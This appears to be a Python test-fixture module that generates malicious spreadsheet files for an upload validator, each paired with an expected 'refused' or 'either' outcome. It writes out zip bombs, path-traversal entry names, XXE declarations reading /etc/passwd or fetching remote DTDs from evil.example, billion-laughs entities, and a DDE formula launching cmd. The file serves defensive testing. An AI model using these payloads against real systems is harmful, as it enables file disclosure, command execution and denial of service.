# ruff: noqa: E501  a line a case
"""Files made to harm who reads them, by code: each a name, its bytes and what may become of it.

`refused`: it must not become a list. `either`: it may be read or refused, but nothing else may happen.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache

from tests.support import files, lists

Case = tuple[str, str, bytes, str]
"""Name of the case, name of the file, bytes, verdict."""

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@cache
def good() -> bytes:
    return lists.workbook(lists.people(3))


def parts(data: bytes | None = None) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data or good())) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(entries: dict[str, bytes] | list[tuple[str, bytes]], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as package:
        for name, data in entries.items() if isinstance(entries, dict) else entries:
            package.writestr(zipfile.ZipInfo(name), data, compress_type=how)
    return out.getvalue()


def with_part(name: str, data: bytes) -> bytes:
    return packed({**parts(), name: data})


def changed(name: str, old: bytes, new: bytes) -> bytes:
    all_parts = parts()
    assert old in all_parts[name], (name, old)
    return packed({**all_parts, name: all_parts[name].replace(old, new)})


def sheet(body: str, head: str = HEAD, attributes: str = "") -> bytes:
    """The good workbook with rows of one's own."""
    return with_part(
        SHEET, f"{head}<worksheet {MAIN}>{attributes}<sheetData>{body}</sheetData></worksheet>".encode()
    )


def row(number: int, *cells: str) -> str:
    made = "".join(
        f'<c r="{chr(65 + place)}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for place, text in enumerate(cells)
    )
    return f'<row r="{number}">{made}</row>'


TOP = row(1, *lists.HEADINGS[:4])


def cases() -> list[Case]:
    return [
        *bombs(),
        *packages(),
        *active(),
        *declared(),
        *damaged(),
        *others(),
        *polyglots(),
        *sheets(),
        *flipped(),
    ]


def bombs() -> Iterator[Case]:
    zeros = bytes(60_000_000)
    yield "a part of 60 MB", "a.xlsx", with_part("xl/media/zero.xml", zeros), "refused"
    yield (
        "a part of 49 MB at a high ratio",
        "a.xlsx",
        with_part("xl/media/zero.xml", bytes(49_000_000)),
        "refused",
    )
    for count in (201, 500, 5_000):
        many = {**parts(), **{f"xl/x{n}.xml": b"<a/>" for n in range(count)}}
        yield f"{count} entries more", "a.xlsx", packed(many), "refused"
    yield (
        "strings that repeat to 40 MB",
        "a.xlsx",
        with_part(STRINGS, b"<sst>" + b"<si><t>AAAAAAAA</t></si>" * 1_700_000 + b"</sst>"),
        "refused",
    )
    nested = packed({"inner.zip": packed({"zero": zeros[:9_000_000]})})
    yield "a zip in a zip", "a.xlsx", with_part("xl/inner.zip", nested), "either"
    lying = bytearray(with_part("xl/media/zero.xml", bytes(2_000_000)))
    place = lying.rfind(b"PK\x01\x02", 0, lying.rfind(b"xl/media/zero.xml"))
    lying[place + 24 : place + 28] = struct.pack("<I", 10)
    yield "a part that says it is small", "a.xlsx", bytes(lying), "refused"
    for width in (51, 200, 16_384):
        cells = "".join(f'<c r="{_column(n)}1"><v>1</v></c>' for n in range(1, width + 1))
        yield f"{width} columns", "a.xlsx", sheet(f'<row r="1">{cells}</row>'), "refused"
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="B{n}"><v>1</v></c></row>' for n in range(1, 20_100)
    )
    yield "20,100 rows", "a.xlsx", sheet(rows), "refused"
    yield "a cell of 2,001 characters", "a.xlsx", sheet(TOP + row(2, "长" * 2_001)), "refused"
    yield "a cell of 32,767 characters", "a.xlsx", sheet(TOP + row(2, "x" * 32_767)), "refused"
    yield (
        "a cell in the last row",
        "a.xlsx",
        sheet(TOP + row(2, "甲") + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
        "either",
    )
    yield (
        "a cell in the last corner",
        "a.xlsx",
        sheet(TOP + row(2, "甲") + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "refused",
    )
    yield (
        "a cell beyond every row",
        "a.xlsx",
        sheet(TOP + '<row r="99999999"><c r="A99999999"><v>1</v></c></row>'),
        "either",
    )
    yield (
        "a column that no sheet has",
        "a.xlsx",
        sheet('<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>'),
        "refused",
    )
    yield "over 10 MB", "a.xlsx", good() + bytes(10_000_001), "refused"


def _column(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def packages() -> Iterator[Case]:
    for name in (
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\x.xml",
        "xl/../../x.xml",
        "C:\\x.xml",
        "xl\\x.xml",
    ):
        yield f"a part named {name}", "a.xlsx", packed([*parts().items(), (name, b"<a/>")]), "refused"
    for name in (SHEET, SHEET.upper(), "[Content_Types].xml", STRINGS):
        twice = [*parts().items(), (name, b"<a/>")]
        yield f"{name} twice", "a.xlsx", _twice(twice), "refused"
    data = bytearray(good())
    for place in _all(bytes(data), b"PK\x01\x02"):
        data[place + 8] |= 1
    for place in _all(bytes(data), b"PK\x03\x04"):
        data[place + 6] |= 1
    yield "parts locked with a password", "a.xlsx", bytes(data), "refused"
    for method in (1, 6, 9, 12, 14, 93, 97, 99):
        strange = bytearray(good())
        for place in _all(bytes(strange), b"PK\x01\x02"):
            strange[place + 10 : place + 12] = struct.pack("<H", method)
        yield f"packed by method {method}", "a.xlsx", bytes(strange), "refused"
    yield "stored, not packed", "a.xlsx", packed(parts(), zipfile.ZIP_STORED), "either"
    yield (
        "no content types",
        "a.xlsx",
        packed({name: data for name, data in parts().items() if "Content" not in name}),
        "refused",
    )
    for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels", SHEET):
        yield (
            f"without {name}",
            "a.xlsx",
            packed({each: data for each, data in parts().items() if each != name}),
            "refused",
        )
    yield "an empty package", "a.xlsx", packed({}), "refused"


def _twice(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as package:
        warnings.simplefilter("ignore")
        for name, data in entries:
            package.writestr(name, data)
    return out.getvalue()


def _all(data: bytes, what: bytes) -> Iterator[int]:
    place = data.find(what)
    while place >= 0:
        yield place
        place = data.find(what, place + 4)


def active() -> Iterator[Case]:
    for name in (
        "xl/vbaProject.bin", "xl/activeX/activeX1.xml", "xl/embeddings/oleObject1.bin", "xl/macrosheets/sheet1.xml",
        "xl/externalLinks/externalLink1.xml", "xl/evil.exe", "xl/evil.js", "xl/evil.vbs", "xl/ctrlProps/a.bin",
        "xl/embeddings/Microsoft_Word.docx",
    ):  # fmt: skip
        yield f"with {name}", "a.xlsx", with_part(name, b"<a/>"), "refused"
    yield (
        "a macro workbook",
        "a.xlsm",
        changed("[Content_Types].xml", b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"),
        "refused",
    )
    yield (
        "a macro workbook named xlsx",
        "a.xlsx",
        changed(
            "[Content_Types].xml",
            b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        "refused",
    )
    for kind in ("externalLinkPath", "image", "oleObject", "attachedTemplate", "frame"):
        link = f'<Relationship Id="r9" Type="{RELATION}/{kind}" Target="http://evil.example/" TargetMode="External"/></Relationships>'
        yield (
            f"an outside {kind}",
            "a.xlsx",
            changed("xl/_rels/workbook.xml.rels", b"</Relationships>", link.encode()),
            "refused",
        )
    spaced = f'<Relationship Id="r9"\n Type="{RELATION}/image"\tTargetMode = \'external\' Target="//evil.example/x"/></Relationships>'
    yield (
        "an outside picture, spelt otherwise",
        "a.xlsx",
        changed("xl/_rels/workbook.xml.rels", b"</Relationships>", spaced.encode()),
        "refused",
    )
    for formula in (
        '=cmd|"/c calc"!A0',
        '=HYPERLINK("http://evil.example","x")',
        "=WEBSERVICE(A1)",
        "=1/0",
        "=A2",
        "=SUM(A:A)",
    ):
        text = formula[1:].replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        body = TOP + f'<row r="2"><c r="A2" t="str"><f>{text}</f><v>示例</v></c><c r="B2"><v>1</v></c></row>'
        yield f"a formula {formula[:12]}", "a.xlsx", sheet(body), "either"


def declared() -> Iterator[Case]:
    laughs = (
        '<!DOCTYPE l [<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
        + "]>"
    )
    outside = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    parameter = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
    for name, said in (
        ("laughs", laughs),
        ("a file", outside),
        ("a parameter", parameter),
        ("small letters", outside.replace("DOCTYPE", "doctype")),
    ):
        for part in (SHEET, STRINGS, "xl/workbook.xml", "[Content_Types].xml", "docProps/core.xml"):
            body = f"{HEAD}{said}<a>&j;</a>".encode()
            yield f"a declaration of {name} in {part}", "a.xlsx", with_part(part, body), "refused"
    wide = f"{HEAD}{outside}<a/>".encode("utf-16")
    yield "a declaration in UTF-16", "a.xlsx", with_part("docProps/app.xml", wide), "refused"
    late = HEAD.encode() + b"<!--" + b"x" * (2**20 - 60) + b"-->" + outside.encode() + b"<a/>"
    yield (
        "a declaration after a megabyte",
        "a.xlsx",
        with_part("docProps/app.xml", late + bytes(zlib.crc32(b"x") % 7)),
        "refused",
    )


def damaged() -> Iterator[Case]:
    data = good()
    for share in (1, 5, 20, 50, 80, 95, 99):
        yield f"cut at {share} %", "a.xlsx", data[: len(data) * share // 100], "refused"
    yield "cut by one byte", "a.xlsx", data[:-1], "refused"
    for body in (
        b"",
        b"<",
        b"<a>",
        b"\0" * 50,
        b"\xff\xfe\x00",
        b"<worksheet>",
        b"<a></b>",
        b"]]>",
        b"<?xml version='9'?>",
    ):
        yield f"a sheet of {body[:9]!r}", "a.xlsx", with_part(SHEET, body), "refused"
    yield "elements 100,000 deep", "a.xlsx", with_part(SHEET, b"<a>" * 100_000), "refused"
    yield "strings 100,000 deep", "a.xlsx", with_part(STRINGS, b"<sst>" + b"<si>" * 100_000), "either"
    yield (
        "strings that are missing",
        "a.xlsx",
        sheet('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>'),
        "either",
    )
    yield (
        "a string before the first",
        "a.xlsx",
        sheet('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'),
        "either",
    )


def others() -> Iterator[Case]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    for name in ("名单.xls", "名单.et", "名单.xlsx", "名单.ett"):
        yield f"an old workbook named {name}", name, ole + bytes(2_000), "refused"
    yield (
        "a locked workbook",
        "a.xlsx",
        ole + bytes(900) + "EncryptedPackage".encode("utf-16-le") + bytes(900),
        "refused",
    )
    yield "an older workbook", "a.xls", b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(500), "refused"
    for text, name in (
        ("姓名,证件号码\n张三,1", "a.csv"),
        ("姓名\t证件号码", "a.txt"),
        ("姓名,证件号码", "a.xlsx"),
        ("姓名", "a.csv"),
    ):
        for encoding in ("utf-8", "utf-8-sig", "gb18030"):
            yield f"text {name} in {encoding}", name, text.encode(encoding), "refused"
    for text in (
        "<html><table><tr><td>姓名",
        "<!DOCTYPE html><table>",
        "<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'>",
    ):
        yield f"a page {text[:12]}", "a.xls", text.encode(), "refused"
    ods = packed(
        [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<a/>")],
        zipfile.ZIP_STORED,
    )
    yield "an ods", "a.ods", ods, "refused"
    yield "an ods named xlsx", "a.xlsx", ods, "refused"
    yield "a numbers file", "a.numbers", packed({"Index/Document.iwa": b"x", "preview.jpg": b"x"}), "refused"
    yield (
        "an xlsb",
        "a.xlsb",
        packed({**parts(), "xl/workbook.bin": b"x", "[Content_Types].xml": b"<Types/>"}),
        "refused",
    )
    yield "a Word paper", "a.xlsx", files.word(), "refused"
    yield "a PDF", "a.xlsx", files.paper(), "refused"
    for kind in ("PNG", "JPEG", "GIF", "BMP", "WEBP"):
        yield f"a picture {kind}", "a.xlsx", files.picture(kind), "refused"
    for start in (
        b"MZ",
        b"\x7fELF",
        b"Rar!\x1a\x07",
        b"7z\xbc\xaf\x27\x1c",
        b"\x1f\x8b\x08",
        b"{\\rtf1",
        b"\0" * 8,
        b"PK",
        b"PK\x05\x06",
        b"PK\x07\x08",
    ):
        yield f"bytes that begin {start[:6]!r}", "a.xlsx", start + bytes(200), "refused"
    yield "nothing", "a.xlsx", b"", "refused"
    yield "one byte", "a.xlsx", b"P", "refused"


def polyglots() -> Iterator[Case]:
    for name, front in (
        ("a PDF", files.paper()),
        ("a picture", files.picture()),
        ("a page", b"<html>"),
        ("a script", b"#!/bin/sh\n"),
    ):
        yield f"{name} before the package", "a.xlsx", front + good(), "refused"
    yield "bytes after the package", "a.xlsx", good() + b"<script>", "refused"
    yield "a package after the package", "a.xlsx", good() + packed({"x": b"y"}), "refused"
    out = bytearray(good())
    out[-2:] = struct.pack("<H", 7)
    yield "a comment", "a.xlsx", bytes(out) + b"<html/>", "refused"


def sheets() -> Iterator[Case]:
    for said in ("A1:XFD1048576", "A1", "", "Z99:A1", "A0:B0", "A1:A99999999999", "x"):
        attributes = f'<dimension ref="{said}"/>'
        yield (
            f"a dimension of {said!r}",
            "a.xlsx",
            sheet(TOP + row(2, "甲", "乙", "丙", "丁"), attributes=attributes),
            "either",
        )
    for value in (
        "500199197001010017",
        "5.00199197001010E+17",
        "1E+400",
        "-1E+400",
        "NaN",
        "inf",
        "1e-400",
        "0x1F",
        "1,5",
        "--1",
        "9" * 400,
    ):
        body = TOP + f'<row r="2"><c r="A2"><v>{value}</v></c><c r="B2"><v>{value}</v></c></row>'
        yield f"a number {value[:22]}", "a.xlsx", sheet(body), "either"
    for kind in ("b", "e", "d", "str", "s", "n", "x", "inlineStr"):
        body = TOP + f'<row r="2"><c r="A2" t="{kind}"><v>2026-13-45</v></c></row>'
        yield f"a cell of type {kind}", "a.xlsx", sheet(body), "either"
    for text in (
        "=1+1",
        "@SUM(A1)",
        "+1",
        "-1",
        "&#1;",
        "&#x202E;甲",
        "&#xFFFE;",
        "&lt;script&gt;",
        "_x0000_",
        "&unknown;",
        "&#xD800;",
        "𰻞",
        "👨‍👩‍👧",
        "\u200b",
        "' OR 1=1--",
    ):
        yield f"a cell {text[:10]!r}", "a.xlsx", sheet(TOP + row(2, text, text, text, text)), "either"
    yield (
        "headings that are all alike",
        "a.xlsx",
        sheet(row(1, *["姓名"] * 20) + row(2, *["甲"] * 20)),
        "either",
    )
    yield "headings alone", "a.xlsx", sheet(TOP), "refused"
    yield "titles alone", "a.xlsx", sheet(row(1, "某厂报名表")), "refused"
    yield "nothing in the sheet", "a.xlsx", sheet(""), "refused"
    yield "rows in any order", "a.xlsx", sheet(row(3, "丙") + row(1, "姓名", "手机") + row(2, "乙")), "either"
    yield "a row twice", "a.xlsx", sheet(TOP + row(2, "甲") + row(2, "乙")), "either"


def flipped() -> Iterator[Case]:
    """One byte changed, all through the file."""
    data = good()
    step = max(1, len(data) // 40)
    for place in range(30, len(data), step):
        turned = bytearray(data)
        turned[place] ^= 0xFF
        yield f"byte {place} turned", "a.xlsx", bytes(turned), "either"
